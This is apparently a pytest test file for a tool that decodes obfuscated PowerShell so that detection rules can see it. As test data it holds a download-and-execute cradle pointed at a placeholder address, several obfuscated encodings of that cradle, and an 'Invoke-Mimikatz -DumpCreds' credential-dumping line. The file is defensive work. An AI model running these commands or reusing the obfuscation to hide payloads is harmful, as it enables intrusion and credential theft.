"""What an encoded PowerShell command hides, revealed for rules and IOCs."""

from __future__ import annotations

import base64
import gzip
import zlib
from pathlib import Path

import orjson
import pytest

from ashiato.detect.decode import decode, might_hide
from ashiato.formats import evtx
from ashiato.formats.testing import parse_file

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "flag", ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "\u2013encodedcommand", "-EnCoDeD"]
)
def test_every_spelling_of_encoded_command(flag: str) -> None:
    assert decode(f"powershell.exe -NoP -NonI -W Hidden {flag} {utf16(CRADLE)}") == CRADLE


def test_frombase64string_with_gzip_and_nesting() -> None:
    inner = f"powershell -enc {utf16(CRADLE)}"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    outer = (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(''" + packed + "''));"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    got = decode(outer)
    assert got is not None
    assert inner in got and CRADLE in got  # both layers
    raw = zlib.compressobj(wbits=-15)
    deflated = raw.compress(b"Invoke-Mimikatz -DumpCreds") + raw.flush()
    got = decode(f"[Convert]::FromBase64String('{base64.b64encode(deflated).decode()}')")
    assert got == "Invoke-Mimikatz -DumpCreds"


def test_nothing_hidden_or_not_text() -> None:
    assert decode("powershell.exe -ExecutionPolicy Bypass -File C:\\s\\logon.ps1") is None
    assert decode("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule") is None
    assert not might_hide("cmd.exe /c dir")
    shellcode = base64.b64encode(bytes(range(256)) * 4).decode()
    assert decode(f"[Convert]::FromBase64String('{shellcode}')") is None


@pytest.mark.corpus
def test_metasploit_psexec_service_payload(shared: Path) -> None:
    # the service command of Metasploit's psexec_psh: a gzip'd loader in FromBase64String
    table, _ = parse_file(
        evtx.FORMAT, shared / "deepbluecli/evtx/metasploit-psexec-powershell-target-system.evtx"
    )
    rows = [r for r in table.to_pylist() if "powershell" in (r["process.command_line"] or "")]
    assert rows

    decoded = orjson.loads(rows[0]["extra"])["decoded"]
    assert "VirtualAlloc" in decoded or "GetProcAddress" in decoded


def _codes(text: str, base: int) -> str:
    fmt = {10: "{}", 16: "'{:x}'", 8: "{:o}", 2: "{:b}"}[base]
    return " , ".join(fmt.format(ord(c)) for c in text)


@pytest.mark.parametrize("base", [10, 16, 8, 2])
def test_character_code_lists_in_any_base(base: int) -> None:
    """Invoke-Obfuscation's ENCODING menu: the command as a list of character codes."""
    conv = "" if base == 10 else f"|%{{[char][convert]::toint16($_,{base})}}"
    block = f"[string]::join('', (({_codes(CRADLE, base)}){conv}))|iex"
    if base == 10:
        block = f"& ($env:comspec[4,15,25]-join'') ([char[]] ({_codes(CRADLE, base)}) -join '')"
    assert might_hide(block)
    assert decode(block) == CRADLE


def test_char_casts_joined_by_plus() -> None:
    block = "+".join(f"[char]{ord(c)}" for c in "IEX (New-Object Net.WebClient)")
    assert decode(f"iex ({block})") == "IEX (New-Object Net.WebClient)"


def test_numbers_that_spell_nothing_are_left_alone() -> None:
    assert decode("Get-Process -Id 4,8,15,16,23,42,108,815,1623,4200,8000,9001 -join ','") is None
    assert decode("$ports = 80,443,8080,8443,3389,445,139,135,22,21,25,110 ; $x -join ','") is None
